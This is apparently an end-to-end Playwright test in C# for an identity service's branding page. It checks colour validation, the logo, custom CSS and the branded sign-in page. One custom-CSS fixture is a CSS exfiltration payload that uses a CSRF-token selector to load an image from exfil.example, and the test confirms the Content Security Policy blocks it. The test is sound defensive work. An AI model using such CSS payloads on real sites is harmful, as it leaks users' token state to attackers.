using Gatehouse.EndToEndTests.Infrastructure;

using Microsoft.Playwright;

using static Gatehouse.EndToEndTests.Infrastructure.QuickstartEnvironment;
using static Microsoft.Playwright.Assertions;

namespace Gatehouse.EndToEndTests.Admin;

/// <summary>
/// Customizations › Brand, as an admin uses it: name, primary colour, logo and custom CSS, then the hosted sign-in
/// page shows them, while its CSP stops the custom CSS from loading anything from another origin.
/// Writes screenshots to docs/screenshots/.
/// </summary>
public sealed class CustomizationsTests
{
    /// <summary>A 32×32 PNG badge in the brand's colour.</summary>
    private static readonly byte[] Logo = Convert.FromBase64String(
        "iVBORw0KGgoAAAANSUhEUgAAACAAAAAgCAYAAABzenr0AAAAjElEQVR42u2X2Q2AMAxDuwL7b8AKDAcTYMU5sJEaqZ+Nn5I2x1p/s/O4bnQkoqMwWfEyBHL6Zm0gjCgD0yYejUwKAjmN5h3dSYlnHyAF0S1OQ1TDzqYjBFAVR/4+CX84DZPioShsgA1gBSD5hvJCZFeKJc1I3o4tBhKLkUw+lFqM5RaLic1qZrGcTtoDF0mpQoqG8FoAAAAASUVORK5CYII=");

    [Fact]
    public async Task Console_BrandsTheSignInPage_AndTheCspKeepsCustomCssOnGatehousesOrigin()
    {
        await using var gatehouse = await GatehouseProcess.StartAsync(Demo.SeedFor(["https://localhost:1"]));
        await using var chromium = await Chromium.LaunchAsync(gatehouse.CaPath);
        var page = await chromium.NewPageAsync();
        await page.SetViewportSizeAsync(1280, 800);

        await page.GotoAsync(gatehouse.Origin + "/admin");
        await SubmitSignInAsync(page, gatehouse.Origin, Demo.Alice, Demo.AlicePassword);
        await page.GetByRole(AriaRole.Navigation, new() { Name = "Console" }).GetByRole(AriaRole.Link, new() { Name = "Customizations" }).ClickAsync();
        await Expect(page.GetByRole(AriaRole.Heading, new() { Name = "Customizations", Exact = true })).ToBeVisibleAsync();

        // A colour that is not #rrggbb is refused with the rule.
        await page.GetByLabel("Primary color").FillAsync("purple");
        await page.GetByRole(AriaRole.Button, new() { Name = "Save" }).ClickAsync();
        await Expect(page.Locator("#errors")).ToContainTextAsync("Primary color must be a hex color such as #1d4ed8.");

        await page.GetByLabel("Display name").FillAsync("Acme Corp");
        await page.GetByLabel("Primary color").FillAsync("#aa11bb");
        await page.GetByLabel("Logo").SetInputFilesAsync(new FilePayload { Name = "acme.png", MimeType = "image/png", Buffer = Logo });
        // Applies (headings in capitals), and tries to send the CSRF token's presence to another origin.
        await page.GetByLabel("Custom CSS").FillAsync(
            "h1 { text-transform: uppercase; }\nform:has(input[name=\"__csrf\"][value]) { background-image: url(https://exfil.example/csrf); }");
        await page.GetByRole(AriaRole.Button, new() { Name = "Save" }).ClickAsync();
        await Expect(page.Locator("#saved")).ToBeVisibleAsync();
        await Expect(page.Locator("#preview-name")).ToHaveTextAsync("Acme Corp");
        await Expect(page.Locator("#preview-button")).ToHaveCSSAsync("background-color", "rgb(170, 17, 187)");
        Assert.True(await page.Locator("#preview-logo").EvaluateAsync<bool>("image => image.complete && image.naturalWidth === 32"));
        await ScreenshotAsync(page, "admin-customizations");

        // The hosted sign-in page, in a fresh browser profile, shows the brand; the CSP blocks the exfiltration.
        var user = await chromium.NewPageAsync();
        await user.SetViewportSizeAsync(1280, 800);
        var violations = new List<string>();
        var foreignResponses = new List<string>();
        var blocked = new List<string>();
        user.Console += (_, message) => violations.Add(message.Text);
        user.Response += (_, response) =>
        {
            if (!response.Url.StartsWith(gatehouse.Origin, StringComparison.Ordinal))
            {
                foreignResponses.Add(response.Url);
            }
        };
        // Chromium reports the request, then fails it before it leaves the browser, with the failure "csp".
        user.RequestFailed += (_, request) => blocked.Add(request.Url + " " + request.Failure);
        await user.GotoAsync(gatehouse.Origin + "/admin");
        await Expect(user).ToHaveURLAsync(OnPage(gatehouse.Origin, "/signin"));
        await Expect(user.Locator("#brand-name")).ToHaveTextAsync("Acme Corp");
        await Expect(user.Locator("#brand-name")).ToHaveCSSAsync("color", "rgb(170, 17, 187)");
        await Expect(user.Locator("#signin-submit")).ToHaveCSSAsync("background-color", "rgb(170, 17, 187)");
        await Expect(user.GetByRole(AriaRole.Heading, new() { Name = "Sign In" })).ToHaveCSSAsync("text-transform", "uppercase");
        Assert.True(await user.Locator("#brand-logo").EvaluateAsync<bool>("image => image.complete && image.naturalWidth === 32"));
        await Expect(user).ToHaveTitleAsync("Sign In · Acme Corp");
        await ScreenshotAsync(user, "signin-branded");
        Assert.Contains(violations, text => text.Contains("exfil.example", StringComparison.Ordinal) && text.Contains("Content Security Policy", StringComparison.Ordinal));
        Assert.Contains(blocked, text => text == "https://exfil.example/csrf csp");
        Assert.Empty(foreignResponses);

        // The branded page still signs the user in.
        await SubmitSignInAsync(user, gatehouse.Origin, Demo.Alice, Demo.AlicePassword);
        await Expect(user.GetByRole(AriaRole.Heading, new() { Name = "Dashboard" })).ToBeVisibleAsync();
    }

    private static Task ScreenshotAsync(IPage page, string name) => Screenshots.TakeAsync(page, name);
}
